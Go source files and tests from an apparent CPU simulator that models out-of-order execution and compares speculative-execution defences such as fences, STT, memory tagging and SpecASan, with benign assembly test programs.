		if c.Halted || c.Faulted {
			return
		}
	}
}

func (c *Core) commitEntry(e *robEntry) {
	in := e.inst
	// Write back register results and flags.
	if e.hasResult {
		if d, ok := in.DstReg(); ok {
			c.cRegs[d] = e.result
			c.cSecret[d] = e.secret
		}
	}
	if e.writesFlags {
		c.cFlags = e.outFlags
	}

	switch in.Op {
	case isa.STR, isa.STRB, isa.STG, isa.ST2G, isa.SWPAL:
		c.commitStore(e)
	case isa.DC:
		c.enterShared()
		c.hier.FlushLine(e.addr, c.cycle)
	case isa.SVC:
		c.commitSVC(e)
	case isa.HLT:
		c.Halted = true
	}
	if c.ghostOn && e.isLoad && e.memIssued {
		c.enterShared()
		c.hier.PromoteGhost(c.ID, e.addr, c.cycle)
	}
}

func (c *Core) commitSVC(e *robEntry) {
	switch e.inst.Imm {
	case 0:
		c.Halted = true
		c.ExitCode = c.cRegs[isa.X0]
	case 1:
		c.Output = append(c.Output, []byte(formatInt(c.cRegs[isa.X0]))...)
	case 2:
		c.Output = append(c.Output, byte(c.cRegs[isa.X0]))
	}
}

func formatInt(v uint64) string {
	// small local helper to avoid fmt in the hot path
	if v == 0 {
		return "0\n"
	}
	var buf [24]byte
	i := len(buf)
	buf[i-1] = '\n'
	i--
	for v > 0 {
		i--
		buf[i] = byte('0' + v%10)
		v /= 10
	}
	return string(buf[i:])
}

// raiseFault delivers a commit-time fault: squash everything and either
// redirect to the registered handler or stop the core.
func (c *Core) raiseFault(e *robEntry) {
	if e.faultIsTag {
		c.tsh.OnFault(e.seq)
		c.Stats.Inc("tag_faults")
	} else {
		c.Stats.Inc("assist_faults")
	}
	// The faulting instruction and everything younger is squashed; its
	// transient dependents' candidate events become real leaks.
	c.promoteCandidates(e.seq)
	c.restoreRAT(e.seq - 1)
	for s := e.seq; s < c.nextSeq; s++ {
		en := &c.rob[s&c.robMask]
		if en.valid {
			c.releaseEntry(en, true)
		}
	}
	c.nextSeq = e.seq
	if c.incompleteFrom > c.nextSeq {
		c.incompleteFrom = c.nextSeq
	}
	if c.FaultHandler != 0 {
		c.fqHead, c.fqCount = 0, 0
		c.fetchPC = c.FaultHandler
		c.fetchStallTo = c.cycle + 8 // trap latency
		c.fetchBlockedBy = 0
		return
	}
	c.Faulted = true
	c.FaultPC = e.pc
}
