package cpu

import (
	"fmt"
	"math/rand"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/golden"
	"specasan/internal/isa"
)

// newMachine builds a single-core machine for tests.
func newMachine(t *testing.T, mit core.Mitigation, src string) *Machine {
	t.Helper()
	prog, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	m, err := NewMachine(core.DefaultConfig(), mit, prog)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func runToHalt(t *testing.T, m *Machine) *RunResult {
	t.Helper()
	res := m.Run(2_000_000)
	if res.TimedOut {
		t.Fatalf("machine timed out: %v (stats %v)", res, m.Core(0).Stats)
	}
	return res
}

func TestSmokeArithmetic(t *testing.T) {
	m := newMachine(t, core.Unsafe, `
    MOV  X0, #7
    MOV  X1, #3
    ADD  X2, X0, X1
    MUL  X3, X2, X2
    SVC  #0
`)
	runToHalt(t, m)
	if got := m.Core(0).Reg(isa.X3); got != 100 {
		t.Fatalf("X3 = %d, want 100", got)
	}
}

func TestSmokeLoop(t *testing.T) {
	m := newMachine(t, core.Unsafe, `
    MOV X0, #0
    MOV X1, #0
loop:
    ADD X1, X1, X0
    ADD X0, X0, #1
    CMP X0, #100
    B.LT loop
    SVC #0
`)
	res := runToHalt(t, m)
	if got := m.Core(0).Reg(isa.X1); got != 4950 {
		t.Fatalf("sum = %d, want 4950", got)
	}
	if res.Committed < 400 {
		t.Fatalf("committed = %d, expected ~401", res.Committed)
	}
}

func TestSmokeMemory(t *testing.T) {
	m := newMachine(t, core.Unsafe, `
_start:
    ADR X0, buf
    MOV X1, #0
    MOV X2, #0
fill:
    STR X1, [X0, X3]
    ADD X1, X1, #1
    ADD X3, X3, #8
    CMP X1, #50
    B.LT fill
    MOV X3, #0
    MOV X1, #0
sum:
    LDR X4, [X0, X3]
    ADD X2, X2, X4
    ADD X3, X3, #8
    ADD X1, X1, #1
    CMP X1, #50
    B.LT sum
    SVC #0
    .org 0x40000
buf:
    .space 512
`)
	runToHalt(t, m)
	if got := m.Core(0).Reg(isa.X2); got != 1225 {
		t.Fatalf("sum = %d, want 1225", got)
	}
}

func TestSmokeCallsAndIndirect(t *testing.T) {
	m := newMachine(t, core.Unsafe, `
_start:
    MOV X0, #5
    BL  double
    BL  double
    ADR X9, fin
    BR  X9
    MOV X0, #0
fin:
    BTI
    SVC #0
double:
    BTI
    ADD X0, X0, X0
    RET
`)
	runToHalt(t, m)
	if got := m.Core(0).Reg(isa.X0); got != 20 {
		t.Fatalf("X0 = %d, want 20", got)
	}
}

// diffAgainstGolden runs the same program on the OoO machine and the
// reference interpreter and compares the final architectural state.
func diffAgainstGolden(t *testing.T, mit core.Mitigation, src string, mteOn bool) {
	t.Helper()
	prog, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	m, err := NewMachine(core.DefaultConfig(), mit, prog)
	if err != nil {
		t.Fatal(err)
	}
	mres := m.Run(5_000_000)

	ip := golden.New(prog)
	ip.MTEOn = mteOn
	ip.TagSeed = TagSeedBase
	gres := ip.Run(5_000_000)

	if mres.TimedOut {
		t.Fatalf("OoO timed out (golden: %v after %d insts)", gres.Reason, gres.Insts)
	}
	if gres.Reason == golden.StopTagFault {
		if !mres.Faulted {
			t.Fatalf("golden tag-faulted but OoO did not")
		}
		return
	}
	if mres.Faulted {
		t.Fatalf("OoO faulted at %#x but golden exited cleanly", m.Core(0).FaultPC)
	}
	for r := isa.Reg(0); r < isa.NumRegs; r++ {
		if r == isa.XZR {
			continue
		}
		if got, want := m.Core(0).Reg(r), gres.Regs[r]; got != want {
			t.Errorf("%v = %#x, want %#x", r, got, want)
		}
	}
	if string(m.Core(0).Output) != string(gres.Output) {
		t.Errorf("output = %q, want %q", m.Core(0).Output, gres.Output)
	}
	// Memory: golden and machine images must agree wherever golden wrote.
	// (Both started from the same program data; compare a window around
	// each data block.)
	for _, d := range prog.Data {
		for i := range d.Bytes {
			a := d.Addr + uint64(i)
			if got, want := m.Img.ByteAt(a), ip.Mem.ByteAt(a); got != want {
				t.Fatalf("mem[%#x] = %d, want %d", a, got, want)
			}
		}
	}
}

// genRandomProgram emits a random but well-formed program: arithmetic over
// X0..X7, loads/stores into a private 512-byte buffer, conditional skips
// and a bounded countdown loop, so control flow always terminates.
func genRandomProgram(rng *rand.Rand, withMTE bool) string {
	var b []byte
	emit := func(format string, args ...interface{}) {
		b = append(b, []byte(fmt.Sprintf(format+"\n", args...))...)
	}
	emit("_start:")
	emit("    ADR X10, buf")
	if withMTE {
		emit("    IRG X10, X10")
		for g := 0; g < 32; g++ { // tag all 512 bytes
			emit("    ADDG X11, X10, #%d, #0", g*16)
			emit("    STG X11, [X11]")
		}
	}
	for r := 0; r < 8; r++ {
		emit("    MOV X%d, #%d", r, rng.Intn(1000))
	}
	emit("    MOV X12, #%d", 3+rng.Intn(5)) // outer loop counter
	emit("loop:")
	nSkips := 0
	body := 20 + rng.Intn(30)
	for i := 0; i < body; i++ {
		ra, rb, rc := rng.Intn(8), rng.Intn(8), rng.Intn(8)
		off := rng.Intn(63) * 8 // in-bounds offsets only
		switch rng.Intn(12) {
		case 0:
			emit("    ADD X%d, X%d, X%d", ra, rb, rc)
		case 1:
			emit("    SUB X%d, X%d, X%d", ra, rb, rc)
		case 2:
			emit("    MUL X%d, X%d, X%d", ra, rb, rc)
		case 3:
			emit("    EOR X%d, X%d, X%d", ra, rb, rc)
		case 4:
			emit("    AND X%d, X%d, #%d", ra, rb, rng.Intn(256))
		case 5:
			emit("    LSR X%d, X%d, #%d", ra, rb, rng.Intn(8))
		case 6:
			emit("    UDIV X%d, X%d, X%d", ra, rb, rc)
		case 7:
			emit("    STR X%d, [X10, #%d]", ra, off)
		case 8, 9:
			emit("    LDR X%d, [X10, #%d]", ra, off)
		case 10:
			emit("    LDRB X%d, [X10, #%d]", ra, off)
		case 11: // data-dependent forward skip (mispredictable branch)
			emit("    CMP X%d, X%d", rb, rc)
			emit("    B.%s skip%d", []string{"EQ", "NE", "LT", "GE", "HI"}[rng.Intn(5)], nSkips)
			emit("    ADD X%d, X%d, #1", ra, ra)
			emit("    STR X%d, [X10, #%d]", rc, off)
			emit("skip%d:", nSkips)
			nSkips++
		}
	}
	emit("    SUB X12, X12, #1")
	emit("    CBNZ X12, loop")
	emit("    SVC #0")
	emit("    .org 0x40000")
	emit("buf:")
	emit("    .space 512")
	return string(b)
}

// TestDifferentialRandomPrograms is the correctness backbone: random
// programs must produce identical architectural results on the OoO pipeline
// (under every mitigation) and the in-order reference interpreter.
func TestDifferentialRandomPrograms(t *testing.T) {
	mits := []core.Mitigation{core.Unsafe, core.MTE, core.Fence, core.STT,
		core.GhostMinion, core.SpecCFI, core.SpecASan, core.SpecASanCFI}
	for seed := int64(0); seed < 12; seed++ {
		rng := rand.New(rand.NewSource(seed))
		withMTE := seed%3 == 0
		src := genRandomProgram(rng, withMTE)
		for _, mit := range mits {
			mit := mit
			t.Run(fmt.Sprintf("seed%d/%v", seed, mit), func(t *testing.T) {
				diffAgainstGolden(t, mit, src, mit.MTEEnabled())
			})
		}
	}
}

func TestDifferentialStoreLoadPatterns(t *testing.T) {
	// Dense store->load dependencies stress forwarding and disambiguation.
	src := `
_start:
    ADR X10, buf
    MOV X0, #1
    MOV X5, #0
    MOV X12, #40
loop:
    STR X0, [X10]
    LDR X1, [X10]      // exact forward
    STR X1, [X10, #8]
    LDR X2, [X10, #8]  // forward again
    ADD X0, X1, X2
    STRB X0, [X10, #16]
    LDRB X3, [X10, #16] // partial-size forward from byte store
    ADD X5, X5, X3
    SUB X12, X12, #1
    CBNZ X12, loop
    SVC #0
    .org 0x40000
buf:
    .space 64
`
	for _, mit := range []core.Mitigation{core.Unsafe, core.SpecASan} {
		diffAgainstGolden(t, mit, src, mit.MTEEnabled())
	}
}

func TestTagFaultOnCommittedPath(t *testing.T) {
	// A mismatching access on the committed path must fault under MTE and
	// SpecASan but run to completion under Unsafe.
	src := `
_start:
    ADR  X0, buf
    IRG  X1, X0
    STG  X1, [X1]
    ADDG X2, X1, #0, #3   // wrong key
    LDR  X3, [X2]
    SVC  #0
    .org 0x40000
buf:
    .space 16
`
	m := newMachine(t, core.Unsafe, src)
	res := runToHalt(t, m)
	if res.Faulted {
		t.Fatal("unsafe baseline must not fault")
	}
	for _, mit := range []core.Mitigation{core.MTE, core.SpecASan} {
		prog := asm.MustAssemble(src)
		m2, err := NewMachine(core.DefaultConfig(), mit, prog)
		if err != nil {
			t.Fatal(err)
		}
		r := m2.Run(1_000_000)
		if !r.Faulted {
			t.Fatalf("%v: expected tag fault, got %v", mit, r)
		}
	}
}

func TestMultiCoreSharedCounter(t *testing.T) {
	// Four cores atomically increment a shared counter via SWPAL spinlock.
	src := `
_start:
    ADR X9, lock
    ADR X10, counter
    MOV X12, #50
loop:
acquire:
    MOV X0, #1
    SWPAL X0, X1, [X9]
    CBNZ X1, acquire
    LDR X2, [X10]
    ADD X2, X2, #1
    STR X2, [X10]
    MOV X0, #0
    SWPAL X0, X1, [X9]   // release
    SUB X12, X12, #1
    CBNZ X12, loop
    SVC #0
    .org 0x40000
lock:
    .word 0
counter:
    .word 0
`
	cfg := core.DefaultConfig()
	cfg.Cores = 4
	prog := asm.MustAssemble(src)
	m, err := NewMachine(cfg, core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	res := m.Run(5_000_000)
	if res.TimedOut {
		t.Fatalf("timed out: %v", res)
	}
	if got := m.Img.ReadU64(prog.MustLabel("counter")); got != 200 {
		t.Fatalf("counter = %d, want 200", got)
	}
}

func TestRestrictionCountersDiffer(t *testing.T) {
	// A branchy, loady kernel: fences must restrict far more instructions
	// than SpecASan.
	src := `
_start:
    ADR X10, buf
    MOV X12, #200
    MOV X5, #0
loop:
    AND X1, X12, #63
    LSL X1, X1, #3
    LDR X2, [X10, X1]
    ADD X5, X5, X2
    CMP X2, #0
    B.EQ skip
    ADD X5, X5, #1
skip:
    SUB X12, X12, #1
    CBNZ X12, loop
    SVC #0
    .org 0x40000
buf:
    .space 512
`
	restricted := map[core.Mitigation]uint64{}
	for _, mit := range []core.Mitigation{core.Fence, core.SpecASan} {
		prog := asm.MustAssemble(src)
		m, err := NewMachine(core.DefaultConfig(), mit, prog)
		if err != nil {
			t.Fatal(err)
		}
		r := m.Run(2_000_000)
		if r.TimedOut {
			t.Fatalf("%v timed out", mit)
		}
		restricted[mit] = r.Stats.Get("restricted_commits")
	}
	if restricted[core.Fence] <= restricted[core.SpecASan] {
		t.Fatalf("fence restricted %d, SpecASan %d — expected fence >> specasan",
			restricted[core.Fence], restricted[core.SpecASan])
	}
}
