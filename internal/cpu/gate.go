package cpu

import (
	"runtime"
	"sync"
)

// Intra-machine parallel stepping.
//
// Each simulated core runs its Tick on a persistent worker goroutine; the
// machine cycle is a bulk-synchronous step with one ordering rule, the
// *baton*: core i may perform its first access to shared state — the cache
// hierarchy (even its own L1, which remote cores invalidate through the
// coherence directory), the memory image and its MTE tag sidecar, and
// core.Oracle leak recording — only after every core j < i has completely
// finished its tick. Everything before that first shared access (wakeup,
// issue, register reads, ROB bookkeeping, store-queue forwarding) touches
// only core-private state and overlaps freely across cores.
//
// Determinism argument (bit-identity with the serial walk): the serial
// Step executes Tick(0); Tick(1); ... Tick(n-1). Split each Tick(i) into a
// private prefix P(i) (reads/writes core-i state, reads immutable state:
// the program, the config, the oracle's secret regions) and a shared
// suffix S(i) (everything from the first shared access on). P(i) commutes
// with any part of any other core's tick, so its results are independent
// of interleaving. The baton admits S(i) only once ticks 0..i-1 have fully
// retired and blocks cores > i, so S(i) observes exactly the shared state
// the serial walk would show it, and applies its effects atomically in
// core-ID order. Every per-cycle read and write is therefore identical to
// the serial schedule — not approximately, but bit-for-bit, at any
// GOMAXPROCS. The -race suite plus the serial-vs-parallel byte-identity
// tests (parallel_test.go, harness) enforce that the private prefix really
// is private: any unguarded shared touch is a data race by construction.
//
// The machine-level phases that must see all cores quiescent — the
// PerCycle hook, idle skipping, and the watchdog — run on the scheduler
// goroutine after the join barrier, exactly where the serial loop runs
// them.

// stepGate is the per-cycle baton. reset arms it; acquire(i) blocks until
// every lower-numbered core has finished its tick; finish(i) retires core
// i and passes the baton on.
type stepGate struct {
	mu   sync.Mutex
	cond *sync.Cond
	turn int    // lowest core ID whose tick has not finished
	done []bool // done[i]: core i finished its tick this cycle
}

func newStepGate(n int) *stepGate {
	g := &stepGate{done: make([]bool, n)}
	g.cond = sync.NewCond(&g.mu)
	return g
}

// reset arms the gate for a new cycle. Called from the scheduler goroutine
// while no worker is ticking.
func (g *stepGate) reset() {
	g.turn = 0
	for i := range g.done {
		g.done[i] = false
	}
}

// acquire blocks until cores 0..id-1 have all finished, i.e. until shared
// state holds exactly the serial-order prefix. turn cannot pass id while
// core id is still running, so the caller holds the baton until finish.
func (g *stepGate) acquire(id int) {
	g.mu.Lock()
	for g.turn < id {
		g.cond.Wait()
	}
	g.mu.Unlock()
}

// finish marks core id's tick complete. A core that never touched shared
// state finishes without ever acquiring; the turn cursor skips over it.
func (g *stepGate) finish(id int) {
	g.mu.Lock()
	g.done[id] = true
	for g.turn < len(g.done) && g.done[g.turn] {
		g.turn++
	}
	g.cond.Broadcast()
	g.mu.Unlock()
}

// coreCrew owns one persistent goroutine per core plus the baton. Run
// starts a crew when the machine is parallel-eligible and shuts it down at
// the end of the run, so abandoned machines never leak goroutines.
type coreCrew struct {
	cores []*Core
	gate  *stepGate

	mu   sync.Mutex
	cond *sync.Cond
	gen  uint64 // step generation; bumping it releases the workers
	left int    // workers still ticking in the current generation
	stop bool
}

// startCrew wires the baton into every core and launches the workers.
func startCrew(cores []*Core) *coreCrew {
	cw := &coreCrew{cores: cores, gate: newStepGate(len(cores))}
	cw.cond = sync.NewCond(&cw.mu)
	for _, c := range cores {
		c.gate = cw.gate
		go cw.worker(c)
	}
	return cw
}

func (cw *coreCrew) worker(c *Core) {
	var gen uint64
	for {
		cw.mu.Lock()
		for cw.gen == gen && !cw.stop {
			cw.cond.Wait()
		}
		if cw.stop {
			cw.mu.Unlock()
			return
		}
		gen = cw.gen
		cw.mu.Unlock()
		c.gateHeld = false
		c.Tick()
		cw.gate.finish(c.ID)
		cw.mu.Lock()
		cw.left--
		if cw.left == 0 {
			cw.cond.Broadcast()
		}
		cw.mu.Unlock()
	}
}

// step runs one machine cycle with every core on its own goroutine and
// returns once all ticks have finished. The mutex handoffs on entry and
// exit give the scheduler goroutine happens-before edges over every
// worker's writes, so the post-barrier phases (PerCycle, skipIdle,
// watchdog, result collection) read fully published core state.
func (cw *coreCrew) step() {
	cw.gate.reset()
	cw.mu.Lock()
	cw.left = len(cw.cores)
	cw.gen++
	cw.cond.Broadcast()
	for cw.left > 0 {
		cw.cond.Wait()
	}
	cw.mu.Unlock()
}

// shutdown releases the workers and detaches the baton so subsequent Steps
// run serially again. Only called between steps, when every worker is
// parked in its generation wait.
func (cw *coreCrew) shutdown() {
	cw.mu.Lock()
	cw.stop = true
	cw.cond.Broadcast()
	cw.mu.Unlock()
	for _, c := range cw.cores {
		c.gate = nil
	}
}

// parallelEligible reports whether this run may step cores concurrently.
// Ineligible shapes fall back to the serial walk, which is always correct:
//   - fewer than two cores, or an explicit ParallelCores=1 request;
//   - auto mode (ParallelCores=0) on a single-threaded GOMAXPROCS, where
//     goroutine handoffs per cycle would only add overhead;
//   - a PerCycle hook (the chaos driver must observe every cycle with the
//     machine quiescent — and skipping is disabled for the same reason);
//   - chaos timing hooks or a TraceFn: their closures share injector or
//     writer state across cores, which the baton does not serialise for
//     the core-private tick phase.
func (m *Machine) parallelEligible() bool {
	switch {
	case len(m.Cores) < 2:
		return false
	case m.ParallelCores == 1:
		return false
	case m.ParallelCores == 0 && runtime.GOMAXPROCS(0) == 1:
		return false
	}
	if m.PerCycle != nil {
		return false
	}
	if m.Hier.ChaosMemLatency != nil || m.Hier.ChaosLFBDelay != nil {
		return false
	}
	for _, c := range m.Cores {
		if c.TraceFn != nil || c.ChaosBranchDelay != nil {
			return false
		}
		if p := c.Predictor(); p != nil && p.ChaosFlipCond != nil {
			return false
		}
	}
	return true
}
