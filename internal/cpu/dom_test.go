package cpu

import (
	"testing"

	"specasan/internal/core"
	"specasan/internal/isa"
)

// domTestPolicy is a delay-on-miss defence registered purely as data: the
// pipeline has no case naming it — the issue gate reads the DelayOnMiss
// descriptor bit. This is the registry seam the scenario layer's DelayOnMiss
// policy uses; the test registers its own copy so internal/cpu needs no
// import of internal/scenario (which imports chaos, which imports cpu).
var domTestPolicy = core.MustRegisterPolicy(core.PolicyDescriptor{
	Name:        "dom-test",
	Class:       "delay miss ACCESS",
	DelayOnMiss: true,
	Knobs:       map[string]uint64{"lfb_hit_ok": 1},
})

// A speculative load that misses the L1D must be held until speculation
// resolves: the run pays cycles, counts policy_block_dom, accounts the held
// loads as restricted commits — and still computes the right answer. The
// loop branch compares the loaded value, so each iteration's load issues
// under an unresolved branch and targets a cold line (stride 64, no warmup).
func TestDelayOnMissHoldsMisses(t *testing.T) {
	src := `
_start:
    ADR X0, buf
    MOV X1, #0
loop:
    LDR X2, [X0]
    ADD X0, X0, #64
    ADD X1, X1, #1
    CMP X1, #32
    B.GE done
    CMP X2, #1
    B.LT loop
done:
    SVC #0
    .org 0x40000
buf:
    .space 4096
`
	base := runToHalt(t, newMachine(t, core.Unsafe, src))
	dom := newMachine(t, domTestPolicy, src)
	res := runToHalt(t, dom)
	if got := dom.Core(0).Reg(isa.X1); got != 32 {
		t.Fatalf("loop count under DoM = %d, want 32", got)
	}
	if res.Stats.Get("policy_block_dom") == 0 {
		t.Fatal("cold speculative loads must be held at least one cycle")
	}
	if res.Stats.Get("restricted_commits") == 0 {
		t.Fatal("held loads must be accounted as restricted commits")
	}
	if res.Cycles <= base.Cycles {
		t.Fatalf("DoM run took %d cycles, baseline %d — holding misses must cost time",
			res.Cycles, base.Cycles)
	}
}

// Speculative loads that HIT must proceed: a hot loop re-reading one cache
// line pays only its cold miss under DoM. If hits were held too, each of the
// 200 iterations would stall on branch resolution and the run would balloon
// by thousands of cycles.
func TestDelayOnMissHitsProceed(t *testing.T) {
	src := `
_start:
    ADR X0, buf
    MOV X1, #0
    MOV X3, #0
loop:
    LDR X2, [X0]
    ADD X3, X3, X2
    ADD X1, X1, #1
    CMP X1, #200
    B.LT loop
    SVC #0
    .org 0x40000
buf:
    .space 64
`
	base := runToHalt(t, newMachine(t, core.Unsafe, src))
	res := runToHalt(t, newMachine(t, domTestPolicy, src))
	extra := int64(res.Cycles) - int64(base.Cycles)
	if extra > 600 {
		t.Fatalf("hot-loop DoM overhead %d cycles (baseline %d): hits are being held",
			extra, base.Cycles)
	}
}
