package cpu

// Event-driven idle-cycle skipping.
//
// A cycle is *idle* for a core when its Tick would change nothing except the
// two per-cycle stall counters (dispatch_stall_cycles, fetch_cfi_stall_cycles).
// nextEventCycle computes a conservative lower bound on the first non-idle
// cycle; Machine.skipIdle jumps simulated time to the minimum across running
// cores and adds the stall counters analytically for the cycles it skipped,
// so a skipping run is bit-identical to a non-skipping one — same cycle
// counts, stats, traces, and architectural state. Skipped cycles emit no obs
// events, matching the non-skipping run (idle cycles emit none either).
//
// Exactness rests on every cycle-driven transition being visible here:
//   - commit:   ROB head stDone commits at doneAt (invalid head / replayable
//     stWaitUnsafe head mean next-cycle work → no skip)
//   - completeExecution: branchQ stExecuting resolves at doneAt
//   - advanceLSQ: loadQ stWaitMem completes at doneAt; a non-speculative
//     stWaitUnsafe load replays next cycle → no skip
//   - wakeup:   wakeQ[0].at (heap pops are (at,seq)-total-ordered, so pop
//     *timing* cannot reorder effects)
//   - issue:    a non-empty readyQ touches state every cycle (port retries,
//     policy-block stats, stale splices) → no skip
//   - dispatch: would-dispatch → no skip; stalled dispatch only burns the
//     stall counter, and its unblocking is a commit/issue event seen above
//   - fetch:    resumes at fetchStallTo when unblocked; a dead or sentinel
//     fetchBlockedBy is cleared next cycle → no skip; a live blocker only
//     burns the CFI-stall counter until its branch resolves (a branch event)
// Everything else in the system (hierarchy ports, MSHRs, LFBs, DRAM,
// prefetcher, oracle) is pull-based: state changes happen inside core-tick
// calls, never "between" them, so no standalone events exist there.
//
// The watchdog is handled by the machine: skips never cross a CheckEvery
// boundary, so Watchdog.Check observes the same cycles it would unskipped.

// noEvent means "no future event known" — the core is waiting on nothing
// this model tracks (wedged or spinning off the code edge). The machine may
// still skip such cores up to the watchdog boundary or the cycle budget.
const noEvent = ^uint64(0)

// nextEventCycle returns the earliest cycle at which this core's Tick could
// do anything beyond the analytic stall counters. A return of c.cycle+1
// means "cannot skip"; noEvent means "no tracked event". Must only be called
// between Ticks (i.e. after a full Machine.Step).
func (c *Core) nextEventCycle() uint64 {
	now := c.cycle
	if c.wedged {
		// Injected commit freeze (watchdog tests): commit's behaviour is no
		// longer a pure function of tracked events; never skip.
		return now + 1
	}
	earliest := noEvent
	consider := func(at uint64) {
		if at <= now {
			at = now + 1
		}
		if at < earliest {
			earliest = at
		}
	}

	// issue: a non-empty ready queue does per-cycle work (unit retries,
	// policy-block stats, stale-entry splices).
	if len(c.readyQ) > 0 {
		return now + 1
	}

	// commit: the ROB head.
	if c.robCount() > 0 {
		e := &c.rob[c.headSeq&c.robMask]
		switch {
		case !e.valid:
			return now + 1 // commit skips the hole next cycle
		case e.state == stDone:
			consider(e.doneAt)
		case e.state == stWaitUnsafe && !c.speculative(e):
			return now + 1 // commit replays it next cycle
		}
	}

	// wakeup: the earliest scheduled wake (stale or not — stale events are
	// popped, a mutation, at exactly this cycle), from the heap and the
	// flat single-cycle batch alike.
	if len(c.wakeQ) > 0 {
		consider(c.wakeQ[0].at)
	}
	if len(c.wakeNext) > 0 {
		consider(c.wakeNextAt)
	}
	// now+1 is the floor: once something is due next cycle the scan cannot
	// produce anything earlier, so skip the per-entry queue walks below.
	// (Results ready next cycle are the common case on compute-bound code,
	// which is exactly where this probe must stay cheap.)
	if earliest == now+1 {
		return earliest
	}

	// completeExecution: unresolved branches.
	for _, s := range c.branchQ {
		e := c.entry(s)
		if e == nil {
			return now + 1 // completeExecution splices it next cycle
		}
		switch e.state {
		case stExecuting:
			consider(e.doneAt)
		case stDispatched:
			// waiting on operands (a wake event) or in readyQ (handled above)
		default:
			return now + 1 // unexpected; stay exact by not skipping
		}
	}

	if earliest == now+1 {
		return earliest
	}

	// advanceLSQ: outstanding loads.
	for _, s := range c.loadQ {
		e := c.entry(s)
		if e == nil {
			return now + 1
		}
		switch e.state {
		case stWaitMem:
			consider(e.doneAt)
		case stWaitUnsafe:
			if !c.speculative(e) {
				return now + 1 // replays next cycle
			}
			// else: released by a branch resolution, covered above
		}
	}

	// dispatch: would it move an instruction into the ROB next cycle?
	if c.fqLen() > 0 {
		if c.robCount() >= c.robCap || c.iqCount >= c.cfg.IQEntries {
			// Stalled: only the stall counter advances (added analytically);
			// unblocking requires a commit or issue, events seen above.
		} else {
			fi := &c.fetchQ[c.fqHead]
			if (fi.inst.IsLoad() && c.lqCount >= c.cfg.LQEntries) ||
				(fi.inst.IsStore() && c.sqCount >= c.cfg.SQEntries) {
				// Silent LSQ block; unblocked by a commit, covered above.
			} else {
				return now + 1
			}
		}
	}

	// fetch: fqCount is exactly what fetch's fullness check will see.
	if c.fqCount < c.cfg.FetchWidth*2 {
		if c.fetchBlockedBy != 0 {
			if c.entry(c.fetchBlockedBy) == nil {
				// Dead blocker (or the pre-dispatch ^0 sentinel): fetch
				// clears it and proceeds next cycle.
				return now + 1
			}
			// Live blocker: fetch only burns the CFI-stall counter (added
			// analytically); release is a branch event, covered above.
		} else if c.fe.InstAt(c.fetchPC) != nil {
			consider(c.fetchStallTo) // resumes once the i-cache stall expires
		}
		// Off the code edge: fetch stays idle until a squash redirects it —
		// driven by the events above.
	}

	return earliest
}

// accountSkippedStalls adds the per-cycle stall counters for the idle cycles
// in (c.cycle, target), exactly as ticking each of them would have.
func (c *Core) accountSkippedStalls(target uint64) {
	now := c.cycle
	skipped := target - 1 - now
	// dispatch: one bump per cycle while instructions wait on a full ROB/IQ.
	if c.fqLen() > 0 && (c.robCount() >= c.robCap || c.iqCount >= c.cfg.IQEntries) {
		if c.nDispatchStall == nil {
			c.nDispatchStall = c.Stats.Counter("dispatch_stall_cycles")
		}
		*c.nDispatchStall += skipped
	}
	// fetch: one bump per cycle with queue space, the stall window expired,
	// and a live blocking branch — fetch checks in exactly that order.
	if c.fqCount < c.cfg.FetchWidth*2 && c.fetchBlockedBy != 0 &&
		c.entry(c.fetchBlockedBy) != nil {
		from := now + 1
		if c.fetchStallTo > from {
			from = c.fetchStallTo
		}
		if target > from {
			if c.nCFIStall == nil {
				c.nCFIStall = c.Stats.Counter("fetch_cfi_stall_cycles")
			}
			*c.nCFIStall += target - from
		}
	}
}

// skipIdle jumps the machine from m.cycle to just before the earliest next
// event across running cores, when that saves at least one full Step. Called
// by Step after ticking; never active under a PerCycle hook (the chaos
// injector must see every cycle).
func (m *Machine) skipIdle() {
	now := m.cycle
	target := noEvent
	running := false
	for _, c := range m.Cores {
		if c.Halted || c.Faulted {
			continue
		}
		running = true
		e := c.nextEventCycle()
		if e <= now+1 {
			return // this core has work next cycle
		}
		if e < target {
			target = e
		}
	}
	if !running {
		return // machine is done; Run exits at the current cycle
	}
	// Never skip across a watchdog boundary: Check must observe the same
	// multiples of CheckEvery it would unskipped (this also bounds the jump
	// when no core reports an event — a wedge the watchdog will call).
	if m.Watchdog != nil && m.Watchdog.CheckEvery > 0 {
		if b := (now/m.Watchdog.CheckEvery + 1) * m.Watchdog.CheckEvery; b < target {
			target = b
		}
	}
	// Never skip past the run's cycle budget: a timed-out run must end on
	// the same cycle count as an unskipped one.
	if m.skipLimit > 0 && m.skipLimit < target {
		target = m.skipLimit
	}
	if target == noEvent || target <= now+1 {
		return
	}
	for _, c := range m.Cores {
		if c.Halted || c.Faulted {
			continue
		}
		c.accountSkippedStalls(target)
		c.cycle = target - 1
	}
	m.cycle = target - 1
}
