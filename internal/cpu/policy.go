package cpu

import (
	"specasan/internal/core"
	"specasan/internal/isa"
	"specasan/internal/mte"
	"specasan/internal/obs"
)

// policyBlocksIssue applies the active mitigation's issue-time gates.
// SpecASan itself never blocks here (its selective delay happens at the
// memory response); the gates below model the defences the paper compares
// against, plus the delay-all ablation of SpecASan. The returned reason is
// the full stat key (constants, not built by concatenation: this runs every
// cycle for every blocked entry and must not allocate).
func (c *Core) policyBlocksIssue(e *robEntry) (bool, string) {
	in := e.inst

	// Structural, not a mitigation: atomics and barriers run at the head.
	if in.Op == isa.SWPAL && (e.seq != c.headSeq || c.speculative(e)) {
		return true, "policy_block_atomic"
	}

	// Speculative barriers (lfence-style): a load issues only when every
	// older instruction has completed — the fence drains the pipeline
	// before each memory access (the delay-ACCESS defence class of
	// Figure 1).
	if c.fenceOn && e.isLoad && c.olderIncomplete(e.seq) {
		return true, "policy_block_fence"
	}

	// STT: "transmit" instructions with tainted operands are delayed until
	// the taint root reaches its visibility point. Transmitters are memory
	// accesses (address operand forms a cache channel) and branches
	// (implicit channel through the front end).
	if c.taintOn {
		transmit := e.isLoad || e.isStore || e.isBranch
		if transmit && c.entryTainted(e) != 0 {
			return true, "policy_block_stt"
		}
	}

	// SpecASan delay-all ablation: every tagged speculative load waits for
	// speculation to resolve, mismatching or not.
	if c.specChecks && !c.selectiveDly && e.isLoad && c.speculative(e) {
		rn, _ := c.readSource2(e, in.Rn)
